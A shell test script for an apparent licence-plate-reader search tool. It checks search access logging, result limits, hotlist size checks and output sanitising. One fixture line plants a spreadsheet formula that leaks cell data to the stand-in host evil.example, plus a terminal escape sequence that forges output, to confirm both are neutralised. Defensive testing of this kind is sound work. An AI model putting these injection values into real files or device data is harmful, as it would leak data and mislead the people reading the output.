#!/bin/sh
# Attacks on what a search shows and logs: a hotlist hiding the plates it
# searches for; --limit above max_results; device text (terminal escapes,
# spreadsheet formulas) reaching a table or a CSV; a wide circle far north
# silently searching nothing; show logging what it read.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/deploy.sh"
plan 10

mkdeploy || { echo "Bail out! no deployment"; exit 1; }
# four days a month back, inside the retention whatever the day
d0=$(daysago 33) d1=$(daysago 32) d2=$(daysago 31) d3=$(daysago 30)
{
	read1 ${d0}T10:00:00.00Z camA 38.58 -121.49 PARTNR1
	read1 ${d0}T18:40:00.00Z camC 38.61 -121.44 PARTNR1
	read1 ${d3}T10:00:00.00Z camN 70.0 25.0 NORTH12
	for i in 1 2 3 4 5; do read1 ${d1}T1$i:00:00.00Z camA 38.58 -121.49 7AB${i}123; done
	printf '{"type":"read","v":1,"id":"%sT100000.00Z-0123456789ab-camA","ts":"%sT10:00:00.00Z","plate":"ESC1234","conf":90,"box":[1,2,3,4],"hits":[{"list":"x","category":"=HYPERLINK(\\"http://evil.example/?\\"&A1)"},{"list":"x","category":"\\u001b]0;pwned\\u0007\\u001b[2K\\rstolen-vehicle"}]}\n' \
	    "$(echo "$d2" | tr -d -)" "$d2"
} >"$T/r.ndjson"
ingest "$T/r.ndjson" 2>/dev/null
att sh -c "cat >$M/bolo.csv" <<'CSV'
# bolo list 9f1c2e7a44d0
plate,state,category,reason,expires
PARTNR1,CA,stolen-vehicle,bolo,2099-12-31
CSV
svc jdoe alpr-store find -e -P stolen-vehicle -C 26-0117 -R "reported stolen from the Main St lot" \
	--hotlist "$M/bolo.csv" >"$T/out" 2>/dev/null
like "(a hotlist search finds the car)" "$(cat "$T/out")" PARTNR1
like "the plates a hotlist search looks for are in the access log" "$(entries search | tail -1)" '"plates":\["PARTNR1"\]'
# a hotlist too big for its plates to go into the search's log entry
att sh -c "perl -e 'print qq(plate,state,category,reason,expires\n); printf qq(BIG%05d,CA,stolen-vehicle,bolo,2099-12-31\n), \$_ for 1..6000' >$M/big.csv"
n=$(nlog)
svc jdoe alpr-store find -e -P stolen-vehicle -C 26-0117 -R "reported stolen from the Main St lot" \
	--hotlist "$M/big.csv" >"$T/out" 2>"$T/err"
ok $([ $? -eq 1 ] && [ ! -s "$T/out" ]; echo $?) "a hotlist whose plates would not fit in the log entry is not searched"
like "... saying so" "$(cat "$T/err")" "6000 entries: a search logs every plate"
sed -i 's/^max_results = .*/max_results = 2/' "$H/alpr.conf"
n=$(svc jdoe alpr-store find $J -R "partial plate from a witness to the hit and run" --limit 1000000 '7AB*' 2>/dev/null | grep -c 7AB)
is "no search returns more than max_results, whatever --limit" "$n" 2
svc jdoe alpr-store find -t $J -R "$R" ESC1234 >"$T/t" 2>/dev/null
svc jdoe alpr-store find -c $J -R "$R" ESC1234 >"$T/c" 2>/dev/null
ok $(! grep -q "$(printf '\033')" "$T/t"; echo $?) "no escape sequence reaches the terminal"
ok $(! grep -q ',=\|,"=' "$T/c"; echo $?) "no formula starts a CSV cell"
svc jdoe alpr-store find -c $J -R "$R" --near 70,25 --radius 50000 >"$T/out" 2>"$T/err"
s=$?
ok $([ $s -ne 0 ] || grep -q NORTH12 "$T/out"; echo $?) "a circle far north is searched whole, or refused (status $s)"
like "... saying why" "$(cat "$T/err")" "this far from the equator"
rid=$(echo "$d0" | tr -d -)T100000.00Z-0123456789ab-camA/1,2
svc jdoe alpr-store show $J -R "$R" "$rid" >/dev/null 2>&1
ok $(! entries show | tail -1 | grep -q PARTNR1; echo $?) "a show's log entry holds the id asked for, not the plate read"
done_testing
